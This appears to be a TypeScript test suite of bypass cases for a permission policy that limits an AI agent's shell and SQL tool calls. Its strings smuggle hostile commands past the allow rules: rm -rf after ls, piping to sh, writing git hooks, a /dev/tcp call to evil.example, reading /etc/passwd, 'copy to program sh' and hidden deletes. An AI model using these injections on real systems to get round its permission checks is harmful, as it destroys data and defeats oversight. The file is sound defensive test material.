import type { Attack, Family } from "./attack.ts";

const LIKE = "L1, L4: a rule about commands or SQL lets pass what stands beside them";

const COMMANDS = {
  version: 2,
  rules: [
    {
      name: "plain commands",
      tools: ["run"],
      when: 'shell(args.line).all(c, c.name in ["ls", "git", "find", "cat"])',
      decision: "allow",
    },
  ],
};
const QUERIES = {
  version: 2,
  rules: [
    {
      name: "reads orders",
      tools: ["query"],
      when: 'sql(args.text, "postgres").reads_only() && sql(args.text, "postgres").tables.all(t, t == "orders")',
      decision: "allow",
    },
  ],
};

/** Seeks what the rule must not allow, and collects as if it did. */
function run(id: string, line: string): Attack {
  return sought(`commands/${id}`, COMMANDS, { tool: "run", args: { line } });
}

function query(id: string, text: string): Attack {
  return sought(`sql/${id}`, QUERIES, { tool: "query", args: { text } });
}

function sought(
  id: string,
  source: typeof COMMANDS,
  action: { readonly tool: string; readonly args: Readonly<Record<string, string>> },
): Attack {
  return {
    id,
    does: `runs ${JSON.stringify(Object.values(action.args)[0])} by a rule for harmless ones`,
    like: LIKE,
    refusal: "NOT_APPROVED",
    async prepare(scene) {
      await (await scene.as("owner")).applyPolicy({ source });
      return async () => {
        const agent = await scene.as("scout");
        const { request } = await agent.authorize({ reason: "The tests ask for it.", ...action });
        await agent.collect({ id: request.id });
      };
    },
  };
}

export const commandsInText: Family = {
  name: "commands and SQL beside the allowed ones",
  attacks: [
    run("chained", "ls && rm -rf x"),
    run("second-line", "ls\nrm -rf x"),
    run("carriage-return", "ls\rrm x"),
    run("piped", "ls | sh"),
    run("in-background", "ls & rm x"),
    run("substituted", "ls $(rm x)"),
    run("substituted-in-quotes", 'ls "`rm x`"'),
    run("process", "cat <(rm x)"),
    run("escaped", "ls a\\;rm"),
    run("ansi-quoted", "ls $'\\x3b'"),
    run("path-of-its-own", "PATH=/tmp ls"),
    run("written-to", "ls > .git/hooks/pre-commit"),
    run("behind-a-redirect", "ls 2> /dev/null -l"),
    run("to-the-network", "cat < /dev/tcp/evil.example/80"),
    run("by-find", "find . -exec rm x ';'"),
    run("by-git", "git -c core.pager=x log"),
    run("by-git-shortened", "git show --ext-dif"),
    run("from-elsewhere", "/tmp/ls"),
    run("look-alike", "lѕ"),
    run("commented", "ls # && rm"),
    query("second-statement", "select 1 from orders; delete from orders"),
    query("in-with", "with d as (delete from orders returning *) select * from d"),
    query("another-table", "select * from orders, users"),
    query("hidden-by-with", "with orders as (select * from users) select * from orders"),
    query("quoted-table", 'select * from "orders "'),
    query("another-schema", "select * from other.orders"),
    query("into", "select * into copied from orders"),
    query("locked", "select * from orders for update"),
    query("explained", "explain analyze select * from orders"),
    query("program", "copy orders to program 'sh'"),
    query("block", "do 'begin delete from orders; end'"),
    query("role", "set role admin"),
    query("prepared", "prepare p as delete from orders"),
    query("file", "select pg_read_file('/etc/passwd') from orders"),
    query("by-function", "select query_to_xml('delete from orders', true, true, '')"),
    query("own-operator", "select 1 operator(evil.+) 2 from orders"),
    query("by-cast", "select 'users'::regclass from orders"),
    query("commented", "select 1 from orders -- ' \n; delete from orders"),
    query("escaped", "select '\\'; delete from orders; --'"),
    query("dollar-quoted", "select $a$ ' $a$; delete from orders; select ' '"),
  ],
};
